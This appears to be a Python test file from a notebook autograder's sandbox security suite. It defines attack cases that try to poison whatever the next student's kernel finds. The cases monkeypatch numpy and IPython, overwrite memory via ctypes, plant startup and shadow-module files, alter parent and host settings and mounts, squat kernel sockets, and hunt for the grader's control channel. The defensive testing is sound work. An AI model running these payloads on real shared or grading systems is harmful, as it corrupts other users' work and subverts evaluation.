"""Changing the process that starts kernels, or what the next notebook finds."""

from tests.attacks.model import Family

# Whether one of these succeeds shows in the honest submission after it, which says what it finds.
family = Family("Poisoning what the next student gets")
add = family.add

add("patched-numpy", "changes numpy and pandas for whoever comes next", """
    import numpy as np, pandas as pd
    np.asarray = np.array = lambda *a, **k: 0
    np.testing.assert_allclose = lambda *a, **k: None
    np.ndarray.__doc__, np.pi = "poisoned", 3
    pd.DataFrame.__len__ = lambda self: 0
    np.seterr(all="raise")
    pd.set_option("display.max_rows", 1)
    np.random.seed(1)
""", ends=("graded", "crashed"))  # fmt: skip

add("patched-ipython", "changes IPython and ipykernel for whoever comes next", """
    import IPython.core.interactiveshell as core, ipykernel.ipkernel as ipkernel, builtins
    core.InteractiveShell.run_cell_async = None
    ipkernel.IPythonKernel.do_execute = None
    builtins.float = builtins.len = lambda *a: 1
""", ends=("graded", "crashed", "timeout"), slow=True)  # fmt: skip

add("written-memory", "overwrites numbers and code in memory (ctypes)", """
    import ctypes, sys
    import numpy as np
    ctypes.memmove(id(997) + 24, id(5) + 24, 4)
    ctypes.memmove(id(4) + 24, id(2) + 24, 4)
""", slow=True, ends=("graded", "crashed", "timeout"))  # fmt: skip

add("shared-memory-pages", "writes into memory that was mapped before it was forked", """
    import ctypes
    for line in open("/proc/self/maps"):
        span, mode = line.split()[:2]
        if mode == "rw-s" and "/dev/zero" not in line:
            low, high = (int(part, 16) for part in span.split("-"))
            ctypes.memset(low, 0x41, high - low)
""", ends=("graded", "crashed"))  # fmt: skip

add("startup-files", "leaves start-up files: sitecustomize, .pth, .ipython, .pythonrc", """
    import os, site
    from IPython.paths import get_ipython_dir
    bad = "import builtins; builtins.max = builtins.len = None  # atk-@TOKEN@\\n"
    import jupyter_core.paths as paths
    for folder in (get_ipython_dir() + "/profile_default/startup", site.getusersitepackages(), "..", ".",
                   paths.jupyter_config_dir(), paths.jupyter_data_dir() + "/kernels/python3"):
        for name in ("atk-@TOKEN@.py", "atk-@TOKEN@.pth"):
            try:
                os.makedirs(folder, exist_ok=True)
                with open(os.path.join(folder, name), "w") as file:
                    file.write(bad if "startup" in folder else "# atk\\n")
            except OSError as error:
                print(error)
""")  # fmt: skip

add("process-state", "changes umask, limits, folder, priority, locale, time zone and signal handlers", """
    import ctypes, locale, os, resource, signal, sys, time
    os.umask(0)
    resource.setrlimit(resource.RLIMIT_NOFILE, (64, 64))
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    os.chdir("/")
    os.nice(5)
    os.environ.update(PATH="/nowhere", PYTHONHASHSEED="7", TZ="Asia/Tokyo", PYTHONSTARTUP="/nowhere")
    time.tzset()
    os.sched_setaffinity(0, {min(os.sched_getaffinity(0))})
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)
    sys.setrecursionlimit(80)
""", ends=("graded", "crashed", "timeout"))  # fmt: skip

add("parent-state", "changes limits, priority and processors of its parent", """
    import os, resource
    for number in {1, os.getppid()}:
        for change in (lambda: resource.prlimit(number, resource.RLIMIT_NOFILE, (64, 64)),
                       lambda: os.setpriority(os.PRIO_PROCESS, number, 15),
                       lambda: os.sched_setaffinity(number, {min(os.sched_getaffinity(0))}),
                       lambda: open(f"/proc/{number}/oom_score_adj", "w").write("900"),
                       lambda: open(f"/proc/{number}/comm", "w").write("poisoned")):
            try:
                change()
            except (OSError, ValueError) as error:
                print(error)
""", dangerous=True)  # fmt: skip

add("machine-state", "changes host name, kernel settings and mounts", """
    import ctypes, glob, os, socket
    libc = ctypes.CDLL(None, use_errno=True)
    print(libc.sethostname(b"poisoned", 8), libc.setdomainname(b"poisoned", 8))
    for path in ("/proc/sys/kernel/hostname", "/proc/sys/kernel/shmmax", "/proc/sys/kernel/msgmax", "/proc/sys/fs/mqueue/msg_max",
                 "/proc/sys/net/ipv4/ip_local_port_range", "/proc/sys/kernel/ns_last_pid", "/proc/sys/vm/overcommit_memory"):
        try:
            with open(path, "r+") as file:
                held = file.read()
                file.seek(0)
                file.write(held)
            print("BREACH" + ":@TOKEN@", "could write", path)
        except OSError as error:
            print(error)
    os.makedirs("hidden", exist_ok=True)
    print(libc.mount(b"hidden", b"/dev/shm", None, 4096, None), libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))
""", dangerous=True)  # fmt: skip

add("left-in-folders", "leaves modules that hide libraries wherever the next kernel may start", """
    import os, tempfile
    from ipykernel.connect import get_connection_file
    text = "raise ImportError('poisoned by atk-@TOKEN@')\\n"
    for folder in {".", "..", "/tmp", tempfile.gettempdir(), "/dev/shm", os.path.dirname(get_connection_file()),
                   os.path.dirname(os.path.dirname(get_connection_file())), os.path.expanduser("~")}:
        for name in ("public_tests.py", "json.py", "sitecustomize.py", "atk-@TOKEN@.py"):
            path = os.path.join(folder, name)
            try:
                if not os.path.exists(path):
                    open(path, "w").write(text)
            except OSError as error:
                print(error)
""", dangerous=True)  # fmt: skip

add("matplotlib-cache", "changes caches and settings that libraries read at import", """
    import os, pathlib
    for folder in {os.environ.get("MPLCONFIGDIR"), os.path.expanduser("~/.config/matplotlib"),
                   os.path.expanduser("~/.cache/matplotlib"), os.environ.get("XDG_CACHE_HOME")} - {None}:
        try:
            os.makedirs(folder, exist_ok=True)
            pathlib.Path(folder, "atk-@TOKEN@").write_text("poisoned")
            pathlib.Path(folder, "matplotlibrc").write_text("backend: nothing\\n")
        except OSError as error:
            print(error)
""", dangerous=True)  # fmt: skip

add("stolen-sockets", "binds the addresses that the next kernel will want", """
    import glob, os, socket, threading
    from ipykernel.connect import get_connection_file
    folder, kept = os.path.dirname(get_connection_file()), []
    for place in (folder, os.path.dirname(folder), "/tmp"):
        for number in range(1, 40):
            for name in (f"kernel-{number}", f"{number}", f"ipc-{number}", f"socket-{number}"):
                try:
                    made = socket.socket(socket.AF_UNIX)
                    made.bind(os.path.join(place, "atk-@TOKEN@-" + name))
                    kept.append(made)
                except OSError:
                    continue
    print(len(kept), "sockets")
""")  # fmt: skip

add("zygote-orders", "finds the channel by which kernels are ordered and orders one itself", """
    import os, stat
    for number in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode) or stat.S_ISFIFO(os.fstat(number).st_mode):
                print(number, os.readlink(f"/proc/self/fd/{number}"))
        except OSError:
            continue
    import gc, sys
    for module in list(sys.modules):
        if module.split(".")[0] in ("grader", "zygote", "__zygote__"):
            print("module of the grader", module)
            for name, value in list(vars(sys.modules[module]).items()):
                if hasattr(value, "fileno") or hasattr(value, "sendmsg"):
                    print("BREACH" + ":@TOKEN@", "a channel in", module, name)
""")  # fmt: skip
